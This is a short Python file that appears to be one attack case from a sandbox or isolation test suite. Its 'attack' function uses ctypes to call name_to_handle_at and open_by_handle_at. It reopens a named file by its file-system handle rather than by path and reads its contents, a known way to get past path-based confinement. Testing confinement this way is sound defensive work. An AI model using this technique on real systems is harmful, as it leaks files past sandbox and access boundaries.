"""Opens a file by the number that the file system knows it by: no path is looked up."""

# judge: leak
# needs: root

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("content", ctypes.c_ubyte * 128))


def attack(ground):
    handle = Handle(128)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, ground["file"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    descriptor = libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.read(descriptor, 1000)
